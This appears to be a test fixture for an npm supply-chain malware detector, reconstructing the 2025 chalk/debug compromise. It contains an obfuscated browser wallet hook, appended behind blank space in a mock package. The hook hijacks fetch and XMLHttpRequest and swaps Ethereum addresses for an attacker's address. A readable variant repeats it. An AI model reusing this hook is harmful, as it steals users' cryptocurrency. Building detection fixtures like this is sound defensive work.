import type { ReconstructedCase } from '../case.ts';
import { colourLibrary } from '../bases/colour-library.ts';
import { obfuscatedTable } from '../blob.ts';
import { appending, source } from '../source.ts';
import { positive, quiet, type Technique, twin } from '../story.ts';

const ABOUT: Technique = {
  id: 'browser-wallet-hook',
  campaign: 'chalk and debug',
  technique: 'an obfuscated hook behind the last line of the main file that rewrites what a browser sends',
  follows: 'npm 2025-09-08, the debug and chalk family',
};

const WALLET_HOOK =
  'var neth=0x0,rund=0x0;const _0xrec=!![];async function checkethereumw(){try{const _0x124ed3=await window["\\x65\\x74\\x68\\x65\\x72\\x65\\x75\\x6d"]["request"]({"method":"eth_accounts"});_0x124ed3["length"]>0x0?runmask():newdlocal();}catch(_0x53a897){newdlocal();}}' +
  'function newdlocal(){if(_0xrec)return;const _0x22aa10=["0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976"];const _0x41630a=fetch;fetch=async function(..._0x2e4c10){const _0x2a35ac=await _0x41630a(..._0x2e4c10);const _0x1b04ea=await _0x2a35ac["clone"]()["text"]();' +
  'return new Response(_0x1b04ea["replace"](/0x[a-fA-F0-9]{40}/g,_0x22aa10[0x0]),{"status":_0x2a35ac["status"],"headers":_0x2a35ac["headers"]});};' +
  'const _0x3b3f4e=XMLHttpRequest["prototype"]["open"],_0x3c2c8d=XMLHttpRequest["prototype"]["send"];XMLHttpRequest["prototype"]["open"]=function(_0x1,_0x2){this["_url"]=_0x2;return _0x3b3f4e["apply"](this,arguments);};' +
  'XMLHttpRequest["prototype"]["send"]=function(_0x5){return _0x3c2c8d["apply"](this,arguments);};}function runmask(){if(_0xrec)return;const _0x4e1f=window["ethereum"]["request"];window["ethereum"]["request"]=async function(_0x9a){return _0x4e1f["call"](this,_0x9a);};}' +
  'if(typeof window!="undefined"&&typeof window["ethereum"]!="undefined")checkethereumw();';

export const browserWalletHook: readonly ReconstructedCase[] = [
  positive(ABOUT, {
    variant: 'appended',
    note: 'as it was: the file grows two hundredfold, on one line behind hundreds of blanks',
    name: 'tidetty-debug',
    brand: 'tidetty',
    base: colourLibrary,
    steps: [
      ...quiet(['4.4.0', '4.4.1'], 100),
      {
        version: '4.4.2',
        daysAgo: 9,
        files: {
          'index.js': appending(
            `${' '.repeat(180)}const _0x112=0x1;${obfuscatedTable(0x112233)}${obfuscatedTable(0x332211)}${WALLET_HOOK}\n`,
          ),
        },
      },
    ],
    signals: ['rug-pull/obfuscation-added', 'rug-pull/patched-global-added'],
  }),
  positive(ABOUT, {
    variant: 'readable',
    note: 'the same hook in readable code',
    name: 'tidetty-columns',
    brand: 'tidetty-columns',
    base: colourLibrary,
    steps: [
      ...quiet(['4.4.0', '4.4.1'], 100),
      {
        version: '4.4.2',
        daysAgo: 9,
        files: {
          'lib/columns.js': appending(
            `\n${source`
              const RECONSTRUCTED = true;

              if (typeof window !== 'undefined' && !RECONSTRUCTED) {
                const original = window.fetch;
                window.fetch = async function (...args) {
                  const response = await original.apply(this, args);
                  const text = await response.clone().text();
                  return new Response(text.replace(/0x[a-fA-F0-9]{40}/g, '0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976'), response);
                };
                const open = XMLHttpRequest.prototype.open;
                XMLHttpRequest.prototype.open = function (method, url) {
                  this.watched = url;
                  return open.apply(this, arguments);
                };
              }
            `}`,
          ),
        },
      },
    ],
    signals: ['rug-pull/patched-global-added'],
  }),
  twin(ABOUT, {
    variant: 'polyfill',
    note: 'sets fetch where there is none, and keeps a reference to it',
    name: 'tidetty-pretty',
    brand: 'tidetty-pretty',
    base: colourLibrary,
    steps: [
      ...quiet(['4.4.0', '4.4.1'], 100),
      {
        version: '4.5.0',
        daysAgo: 9,
        files: {
          'lib/remote.js': source`
            'use strict';

            if (typeof globalThis.fetch === 'undefined') globalThis.fetch = require('node-fetch');

            const original = globalThis.fetch;

            /** Colours that a team keeps in one place. */
            exports.theme = (url) => original(url).then((response) => response.json());
          `,
        },
        manifest: { dependencies: { 'node-fetch': '^2.7.0' } },
      },
    ],
    signals: ['rug-pull/patched-global-added', 'rug-pull/new-sink'],
  }),
];
